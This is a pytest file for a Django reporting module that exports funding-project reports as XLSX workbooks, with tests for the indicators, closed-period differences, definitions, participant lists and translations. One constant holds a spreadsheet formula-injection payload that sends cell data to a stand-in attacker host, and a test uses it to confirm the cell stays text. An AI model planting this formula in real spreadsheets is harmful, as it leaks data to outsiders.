"""A funding project's report as an XLSX workbook (issue 16): the funder's
layout with every indicator's values as the reader may see them, the values
handed in for a closed period and the difference, the definitions, and the
participant list only when given, every cell safe against formula injection."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from bookings.models import Booking, BookingStatus, WomenLed
from reporting.definitions import project_definitions, project_name
from reporting.deminimis import to_eur
from reporting.export_projects import project_report_filename, project_report_xlsx
from reporting.models import DeMinimisDeclaration
from reporting.project_report import (
    INDICATORS,
    PROJECT_DEFINITIONS_VERSION,
    participants,
    period_close,
    project_report,
    shown_values,
)
from tests.reporting.test_project_report import AFTER_THE_END, History

ATTACK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Klicka")'


@pytest.fixture
def history(db) -> History:
    return History()


def midnight(day: date) -> datetime:
    """A date as openpyxl reads a date cell back."""
    return datetime.combine(day, time.min)


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def table(sheet, heading: str) -> tuple[list, list[list]]:
    """The header and the rows below the row whose first cell is `heading`."""
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    start = next(i for i, r in enumerate(rows) if r[0] == heading)
    return rows[start], [r for r in rows[start + 1 :] if any(v is not None for v in r)]


def header(sheet) -> dict:
    values = {}
    for row in sheet.iter_rows(values_only=True):
        if row[0] in ("Indikator", "Indicator"):
            break
        if row[0] is not None:
            values[row[0]] = row[1]
    return values


def test_the_indicator_sheet_has_the_funders_header_and_every_value_exact_for_owners(history):
    report = project_report(history.project, history.project.periods.get(number=2))
    book = workbook(project_report_xlsx(report, exact=True, participant_rows=None, snapshot=None))

    assert book.sheetnames == ["Indikatorer", "Definitioner"]
    sheet = book["Indikatorer"]
    top = header(sheet)
    assert top["Projekt"] == "Starkare sociala företag"
    assert top["Finansiär"] == str(history.project.get_funder_display())
    assert top["Diarienummer"] == "NYPS 20305678"
    assert top["Region"].endswith("(20)")
    assert top["Rapportperiod"].startswith("Period 2: 2027-04-01 – 2027-06-30")
    assert top["Definitionernas version"] == PROJECT_DEFINITIONS_VERSION
    assert top["Skapad"]
    headings, rows = table(sheet, "Indikator")
    assert headings == ["Indikator", "Under perioden", "Sedan projektets start"]
    values = report.values()
    assert rows == [
        [project_name(key), values["in_period"][key], values["cumulative"][key]] for key in INDICATORS
    ]
    assert values["cumulative"]["sessions_held"] > 5  # the history is rich enough to mean something


def test_without_the_owner_right_the_values_are_protected(history):
    report = project_report(history.project, history.project.periods.get(number=1))
    sheet = workbook(project_report_xlsx(report, exact=False, participant_rows=None, snapshot=None))[
        "Indikatorer"
    ]

    _, rows = table(sheet, "Indikator")
    shown = {
        scope: shown_values(report.values()[scope], exact=False) for scope in ("in_period", "cumulative")
    }
    assert rows == [[project_name(k), shown["in_period"][k], shown["cumulative"][k]] for k in INDICATORS]
    assert header(sheet)["Tal"].startswith("Skyddade")


def test_a_closed_period_shows_what_was_handed_in_and_the_difference(history):
    period = history.project.periods.get(number=2)
    snapshot = period_close(by=history.coordinator.user, project=history.project, number=2, now=AFTER_THE_END)
    report = project_report(history.project, period)
    held = next(s.booking for s in report.in_period if s.documented)
    Booking.objects.filter(pk=held.pk).update(status=BookingStatus.NO_SHOW)
    period.refresh_from_db()
    live = project_report(history.project, period)

    sheet = workbook(project_report_xlsx(live, exact=True, participant_rows=None, snapshot=snapshot))[
        "Indikatorer"
    ]

    headings, rows = table(sheet, "Indikator")
    assert headings[3:] == [
        "Inlämnat, under perioden",
        "Inlämnat, sedan start",
        "Skillnad, under perioden",
        "Skillnad, sedan start",
    ]
    by_name = {row[0]: row for row in rows}
    sessions = by_name[project_name("sessions_held")]
    frozen = snapshot.values
    assert sessions[1:5] == [
        frozen["in_period"]["sessions_held"] - 1,
        frozen["cumulative"]["sessions_held"] - 1,
        frozen["in_period"]["sessions_held"],
        frozen["cumulative"]["sessions_held"],
    ]
    assert sessions[5:] == [-1, -1]
    assert by_name[project_name("workshops_held")][5:] == [0, 0]
    assert "Stängd" in header(sheet)["Rapportperiod"]


def test_the_definitions_sheet_has_every_entry(history):
    report = project_report(history.project, history.project.periods.get(number=1))
    sheet = workbook(project_report_xlsx(report, exact=True, participant_rows=None, snapshot=None))[
        "Definitioner"
    ]

    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert [list(r) for r in rows] == [
        [k, e["name_sv"], e["sv"], e["name_en"], e["en"]] for k, e in project_definitions().items()
    ]


def test_the_participant_list_has_one_line_per_participant_with_its_de_minimis_aid(history):
    report = project_report(history.project, history.project.periods.get(number=4))
    rows = participants(report)
    first = rows[0].enterprise
    first.org_number = ""
    first.women_led = WomenLed.YES
    first.save()
    declared = DeMinimisDeclaration.objects.create(
        enterprise=first,
        aid_last_three_years_eur=Decimal("1234.50"),
        declared_at=datetime(2027, 2, 1, 23, 30, tzinfo=UTC),
    )
    report = project_report(history.project, history.project.periods.get(number=4))
    rows = participants(report)

    sheet = workbook(project_report_xlsx(report, exact=True, participant_rows=rows, snapshot=None))[
        "Deltagarförteckning"
    ]

    assert "personnummer" in sheet["A1"].value
    headings, lines = table(sheet, "Organisationsnummer")
    assert headings[:3] == ["Organisationsnummer", "Företag", "Kontaktens e-post"]
    assert len(lines) == len(rows) > 3
    rate = history.project.hourly_aid_value_sek
    for line, row in zip(lines, rows, strict=True):
        declaration = DeMinimisDeclaration.objects.filter(enterprise=row.enterprise).first()
        assert line == [
            row.enterprise.org_number or None,
            row.enterprise.name,
            row.contact_email,
            midnight(row.first_session),
            midnight(row.latest_session),
            row.sessions,
            float(row.hours),
            "Ja" if row.in_period else "Nej",
            {"yes": "Ja", "no": "Nej", "not_stated": "Ej angivet"}[row.enterprise.women_led],
            float(to_eur(row.hours * rate)),
            float(declaration.aid_last_three_years_eur) if declaration else None,
            midnight(date(2027, 2, 2)) if declaration else None,  # 00:30 on 2 February in Sweden
        ]
    assert lines[0][0] is None and lines[0][8] == "Ja"
    assert lines[0][10:] == [float(declared.aid_last_three_years_eur), midnight(date(2027, 2, 2))]


def test_the_participant_list_reads_the_declarations_in_one_query(history, django_assert_max_num_queries):
    report = project_report(history.project, history.project.periods.get(number=4))
    rows = participants(report)
    with django_assert_max_num_queries(1):
        project_report_xlsx(report, exact=True, participant_rows=rows, snapshot=None)


def test_an_enterprise_named_like_a_formula_stays_text(history):
    report = project_report(history.project, history.project.periods.get(number=4))
    rows = participants(report)
    rows[0].enterprise.name = ATTACK
    sheet = workbook(project_report_xlsx(report, exact=True, participant_rows=rows, snapshot=None))[
        "Deltagarförteckning"
    ]

    cells = [c for row in sheet.iter_rows() for c in row if c.value == ATTACK]
    assert len(cells) == 1
    assert cells[0].data_type == "s" and cells[0].quotePrefix


def test_in_english_the_sheets_and_headings_are_english(history):
    report = project_report(history.project, history.project.periods.get(number=1))
    with translation.override("en"):
        book = workbook(project_report_xlsx(report, exact=True, participant_rows=[], snapshot=None))
        name = project_report_filename(report)
    assert book.sheetnames == ["Indicators", "Definitions", "Participant list"]
    headings, rows = table(book["Indicators"], "Indicator")
    assert headings == ["Indicator", "In the period", "Since the project's start"]
    assert rows[0][0] == "Enterprises supported"
    assert name == f"radtid-project-report-{history.project.pk}-period-1-2027-03-31.xlsx"
